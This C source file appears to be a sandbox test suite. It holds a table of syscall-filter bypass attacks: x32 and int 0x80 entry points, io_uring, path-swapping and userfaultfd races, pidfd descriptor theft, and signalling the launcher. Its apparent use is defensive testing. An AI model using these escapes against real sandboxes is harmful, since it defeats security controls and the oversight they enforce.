#define _GNU_SOURCE
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/resource.h>

#include "bypass.h"

static void plain(void) { gone(); }
static void directory(void)
{
    char copy[4096], *name = split(copy);
    raw(SYS_unlinkat, raw(SYS_open, copy, O_PATH, 0), name, 0);
}
static void renamed(void) { raw(SYS_rename, victim, "elsewhere", 0); }
static void int80(void)
{
    /* Only a name below 4 GB can be given so. */
    char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    long result = 10;
    strcpy(low, victim);
    __asm__ volatile("int $0x80" : "+a"(result) : "b"(low) : "memory", "r8", "r9", "r10", "r11");
}
static void x32(void) { raw(UNLINK | 0x40000000, victim, 0, 0); }
static void no_descriptors(void)
{
    struct rlimit none = {0, 0};
    for (int fd = 3; fd < 1024; fd++)
        raw(SYS_close, fd, 0, 0);
    raw(SYS_setrlimit, RLIMIT_NOFILE, &none, 0);
    gone();
}
static void ring(void)
{
    char parameters[120] = {0};
    long fd = raw(425, 4, parameters, 0);
    if (fd >= 0)
        puts("SUCCEEDED");
}

static void *flip(void *path)
{
    for (;;) {
        strcpy(path, victim);
        strcpy(path, "harmless");
    }
    return NULL;
}
static void swapped(void)
{
    pthread_t other;
    static char path[4096] = "harmless";
    pthread_create(&other, NULL, flip, path);
    for (int i = 0; i < 300; i++)
        raw(UNLINK, path, 0, 0);
}
/* The kernel's own reads of a path stop at a page that a thread of ours fills: first with a harmless name, then with the victim's. */
static char *page;
static int faults;
static void *serve(void *filled)
{
    for (int turn = 0;; turn++) {
        struct uffd_msg message;
        if (read(faults, &message, sizeof message) != sizeof message)
            return NULL;
        memset(filled, 0, 4096);
        strcpy(filled, turn % 2 ? victim : "harmless");
        struct uffdio_copy copy = {.dst = (uintptr_t)page, .src = (uintptr_t)filled, .len = 4096};
        ioctl(faults, UFFDIO_COPY, &copy);
        usleep(20);
        madvise(page, 4096, MADV_DONTNEED);
    }
}
static void faulting(void)
{
    pthread_t server;
    void *filled = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    faults = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
    struct uffdio_api api = {.api = UFFD_API};
    struct uffdio_register range = {.range = {(uintptr_t)page, 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
    if (faults < 0 || ioctl(faults, UFFDIO_API, &api) || ioctl(faults, UFFDIO_REGISTER, &range))
        return;
    pthread_create(&server, NULL, serve, filled);
    for (int i = 0; i < 40; i++)
        raw(UNLINK, page, 0, 0);
}

/* The launcher's descriptors. */
static void stolen(void)
{
    long process = raw(SYS_pidfd_open, atoi(getenv("L")), 0, 0);
    for (int fd = 0; fd < 30; fd++)
        if (raw(SYS_pidfd_getfd, process, fd, 0) >= 0)
            puts("SUCCEEDED");
}
/* The launcher is outside: the kernel alone stands between it and a call that nobody judges. */
static void out_of_reach(void)
{
    long result = borrowed(SYS_kill, atoi(getenv("L")), 0);
    printf("%s %ld\n", result == 0 ? "SUCCEEDED" : "refused", result);
}

const struct attack attacks_of_calls[] = {
    {"plain", plain}, {"directory", directory}, {"renamed", renamed}, {"int80", int80}, {"x32", x32},
    {"no-descriptors", no_descriptors}, {"ring", ring}, {"swapped", swapped}, {"faulting", faulting},
    {"stolen", stolen}, {"out-of-reach", out_of_reach},
    {NULL, NULL},
};
